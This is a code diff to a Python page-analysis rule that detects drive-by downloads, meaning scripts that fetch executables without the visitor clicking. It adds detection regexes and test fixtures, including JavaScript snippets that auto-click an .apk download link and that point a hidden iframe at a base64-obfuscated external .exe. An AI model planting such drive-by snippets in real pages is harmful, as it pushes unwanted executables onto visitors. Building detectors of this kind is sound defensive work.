@@ -6,11 +6,11 @@ import base64
 import re
 from collections.abc import Iterator
 from typing import Any
-from urllib.parse import unquote
+from urllib.parse import unquote, urljoin
 
 from analyzers.lexicons import lexicon
 from analyzers.model import BrowserEvent, Iframe, Location, Overlay, Page, Script
-from analyzers.rules.base import HOME, Hit, Rule, home, site
+from analyzers.rules.base import HOME, Hit, Rule, home, page, site
 from analyzers.scripts import auto_positions, source
 from analyzers.urls import host, host_matches, same_site
 
@@ -74,7 +74,7 @@ def _refers(code: str, pos: int, element_id: str) -> bool:
 def _shown_by_itself(o: Overlay, code: str) -> bool:
     if o.element_id.startswith("script-built:"):
         return True  # extraction.overlays.built_layers: built by a function a timer calls
-    if any(_refers(code, m.start(), o.element_id) for m in _HIDDEN_BY.finditer(code)):
+    if not o.defeat and any(_refers(code, m.start(), o.element_id) for m in _HIDDEN_BY.finditer(code)):
         return False  # the page's own script closes it somewhere: a close control it wires up
     return any(_refers(code, m.start(), o.element_id) for m in auto_positions(code, _SHOWN))
 
@@ -250,6 +250,37 @@ _FRAME_DL = re.compile(r"createElement\(\s*['\"]iframe['\"]\s*\)[\s\S]{0,400}?\.
                        r"\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg))['\"]", re.I)
 
 
+# a script that makes a link to an executable and clicks it itself (a.href='…helper.apk'; a.click()) with no visitor's
+# click: on a page that is not a download page the visitor asked for (下载中心, download.html) it is a drive-by
+_ANCHOR_DL = re.compile(r"createElement\(\s*['\"]a['\"]\s*\)[\s\S]{0,300}?\.href\s*=\s*['\"]([^'\"]{1,300}?"
+                        r"\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg))['\"][\s\S]{0,300}?\.click\(\s*\)", re.I)
+_DOWNLOAD_PAGE = re.compile(r"download|xiazai|下载|安装", re.I)
+
+
+# a timer that points a hidden frame at an executable whose address it hides (….getElementById('dl').src=atob('…exe')):
+# the address is decoded, never run
+_SRC_SET = re.compile(r"\.src\s*=")
+_EXE_URL = re.compile(r"^(?:https?:)?//[^\s'\"]{1,300}?\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg)(?:$|[?#])", re.I)
+
+
+def _hidden_frame_drive_by(p: Page, code: str) -> str:
+    if ".src" not in code or not ("iframe" in code or any(not f.visible for f in p.iframes)):
+        return ""
+    if not auto_positions(code, _SRC_SET):
+        return ""
+    return next((u for u in hidden_strings(code) if _EXE_URL.search(u) and not same_site(u, p.url)), "")
+
+
+def _anchor_drive_by(p: Page, sc: Script) -> re.Match[str] | None:
+    code = sc.inline or ""
+    if ".click(" not in code or "createElement" not in code:
+        return None
+    m = next(iter(auto_positions(code, _ANCHOR_DL)), None)
+    if m is None or (same_site(urljoin(p.url, m.group(1)), p.url) and _DOWNLOAD_PAGE.search(f"{p.url} {p.title}")):
+        return None
+    return m
+
+
 def check_drive_by(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
     started = False
     for ev in p.events:
@@ -262,6 +293,16 @@ def check_drive_by(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit
         if m and not _CLICK.search(sc.inline or "") and not same_site(m.group(1), p.url):
             yield Hit(match=m.group(1)[-60:], location=Location(kind="script", selector=sc.src or "inline"),
                       confidence=0.8, excerpt=_short(sc.inline), detail="（脚本以隐藏框架下载可执行文件）")
+            break
+        hidden = _hidden_frame_drive_by(p, sc.inline or "") if not _CLICK.search(sc.inline or "") else ""
+        if hidden:
+            yield Hit(match=hidden[-60:], location=Location(kind="script", selector=sc.src or "inline"),
+                      confidence=0.8, excerpt=_short(sc.inline), detail="（脚本以隐藏框架下载隐藏地址的可执行文件）")
+            break
+        a = _anchor_drive_by(p, sc)
+        if a is not None:
+            yield Hit(match=a.group(1)[-60:], location=Location(kind="script", selector=sc.src or "inline"),
+                      confidence=0.8, excerpt=_short(sc.inline), detail="（脚本自行点击下载可执行文件的链接）")
             break
     if not p.rendered:
         refresh = p.meta.get("refresh", "")
@@ -377,12 +418,24 @@ RULES: tuple[Rule, ...] = (
               site(home("正在为您下载加速器", rendered=True, scripts=(Script(inline=(
                   "setTimeout(function(){var f=document.createElement('iframe');f.style.display='none';"
                   "f.src='https://cdn-tools.example/dl/booster_setup.exe';document.body.appendChild(f);},1000);")),)),
-                   description="脚本建隐藏框架下载外站的 exe（下载未被浏览器看到）"),),
+                   description="脚本建隐藏框架下载外站的 exe（下载未被浏览器看到）"),
+              site(page(HOME + "articles.html", "养生文章", rendered=True, scripts=(Script(inline=(
+                  "setTimeout(function(){var a=document.createElement('a');a.href='download/helper.apk';"
+                  "a.download='helper.apk';document.body.appendChild(a);a.click();},1500);")),)),
+                   description="文章页脚本自行点击本站 apk 下载链接"),
+              site(home("下载助手", rendered=True, iframes=(Iframe("about:blank", 0, 0, visible=False),), scripts=(Script(inline=(
+                  "setTimeout(function(){var u=atob('aHR0cDovL2RsLmV4YW1wbGUudG9wL0hlbHBlci5leGU=');"
+                  "document.getElementById('dl').src=u;},3000);")),)),
+                   description="定时把隐藏框架指向 atob 解码出的外站 exe"),),
          good=(site(home("欢迎", rendered=True, events=(BrowserEvent("download", HOME + "manual.pdf", user_initiated=True),)),
                     description="用户点击下载说明书"),
                site(home("下载客户端", rendered=True, scripts=(Script(inline=(
                    "btn.addEventListener('click',function(){var f=document.createElement('iframe');"
                    "f.src='https://cdn-tools.example/dl/client_setup.exe';document.body.appendChild(f);});")),)),
-                    description="用户点击按钮后才下载"),),
+                    description="用户点击按钮后才下载"),
+               site(page(HOME + "download.html", "下载客户端", rendered=True, scripts=(Script(inline=(
+                   "setTimeout(function(){var a=document.createElement('a');a.href='/files/client_setup.exe';"
+                   "document.body.appendChild(a);a.click();},2000);")),)),
+                    description="访客打开的下载页自动开始本站客户端下载"),),
          references=_LAW_MAL),
 )
